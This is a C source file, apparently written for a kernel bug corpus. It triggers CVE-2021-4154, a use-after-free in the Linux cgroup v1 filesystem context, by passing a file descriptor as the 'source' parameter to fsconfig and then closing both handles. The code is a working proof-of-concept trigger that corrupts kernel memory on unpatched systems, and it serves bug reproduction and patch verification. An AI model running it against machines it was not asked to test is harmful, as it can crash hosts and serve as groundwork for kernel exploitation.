// SPDX-License-Identifier: GPL-2.0
/*
 * CVE-2021-4154 trigger, written for krr's bug corpus from the fix (3b0462726e7e): the cgroup v1
 * filesystem context takes its "source" parameter as a string, but fsconfig(FSCONFIG_SET_FD) hands
 * it a struct file. Closing the context kfree()s that file while a descriptor still refers to it;
 * closing the descriptor then uses the freed file.
 */
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <sys/syscall.h>
#include <unistd.h>

#ifndef SYS_fsopen
#define SYS_fsopen 430
#define SYS_fsconfig 431
#endif
#define FSCONFIG_SET_FD 5

int main(void)
{
	int fsfd, fd;

	fsfd = syscall(SYS_fsopen, "cgroup", 0);
	if (fsfd < 0) {
		perror("fsopen(cgroup)");
		return 1;
	}
	fd = open("/", O_RDONLY | O_DIRECTORY);
	if (fd < 0) {
		perror("open(/)");
		return 1;
	}
	/* A fixed kernel refuses this with EINVAL ("Non-string source"). */
	if (syscall(SYS_fsconfig, fsfd, FSCONFIG_SET_FD, "source", NULL, fd) < 0) {
		perror("fsconfig(source, fd)");
		return 1;
	}
	close(fsfd);	/* put_fs_context(): kfree(fc->source), i.e. the struct file */
	close(fd);	/* filp_close() on the freed file */
	printf("no report: the kernel is not vulnerable\n");
	return 0;
}
